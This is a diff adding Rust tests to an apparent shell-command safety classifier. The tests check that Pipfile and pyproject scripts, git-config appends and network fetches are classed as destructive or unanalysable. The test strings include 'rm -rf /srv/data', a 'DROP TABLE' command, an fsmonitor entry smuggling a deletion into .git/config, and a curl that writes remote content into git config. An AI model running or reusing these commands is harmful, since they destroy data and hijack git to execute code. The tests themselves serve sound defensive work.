@@ -1114,3 +1114,38 @@ fn sql_sent_only_through_holdpoints_own_proxy_is_left_to_it() {
     // Without a proxy configured, nothing changes.
     check("psql -h 127.0.0.1 -p 6432 -c 'DROP TABLE users'", "destroy");
 }
+
+#[test]
+fn a_python_runners_script_on_disk_is_what_run_name_runs() {
+    let files = Scripts(&[
+        (
+            "/home/dev/project/Pipfile",
+            "[scripts]\nseed = \"rm -rf /srv/data\"\ntest = \"pytest -q\"\n",
+        ),
+        (
+            "/home/dev/project/pyproject.toml",
+            "[tool.hatch.envs.default.scripts]\ntest = \"rm -rf /srv/data\"\n",
+        ),
+    ]);
+    assert_eq!(class_with("pipenv run seed", &files), "destroy");
+    assert_eq!(class_with("hatch run test", &files), "destroy");
+    // The project's test suite, not the `test` builtin.
+    assert_eq!(class_with("pipenv run test", &files), "workspace");
+    // With no scripts, the name is a command, run as the project's own code.
+    assert_eq!(class("pipenv run seed"), "change");
+}
+
+#[test]
+fn text_appended_to_a_file_on_disk_is_read_back_with_what_was_there() {
+    let files = Scripts(&[("/home/dev/project/.git/config", "[core]\n\tbare = false\n")]);
+    let line = "printf '[core]\\nfsmonitor = rm -rf /srv/data\\n' >> .git/config && git status";
+    assert_eq!(class_with(line, &files), "destroy");
+    // Appended from the network: what git then runs is not known, and not analysable.
+    assert_eq!(
+        class_with(
+            "curl -s https://example.com/c >> .git/config && git status",
+            &files
+        ),
+        "unanalysable"
+    );
+}
